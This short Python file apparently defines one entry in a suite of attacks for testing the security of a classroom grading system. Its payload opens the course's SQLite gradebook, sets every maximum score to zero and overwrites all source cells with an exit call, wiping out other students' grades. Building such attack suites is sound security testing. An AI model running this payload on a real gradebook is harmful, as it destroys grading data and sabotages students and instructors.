"""Takes the points of everybody else away in the gradebook."""

from attacks.attack import Attack

ATTACK = Attack(
    __doc__,
    nl="Neemt in het cijferboek ieder ander de punten af.",
    code="""
import sqlite3
with sqlite3.connect(COURSE / "gradebook.db") as gradebook:
    gradebook.execute("update grade_cells set max_score = 0")
    gradebook.execute("update source_cell set source = 'raise SystemExit'")
""",
    alone=True,
)
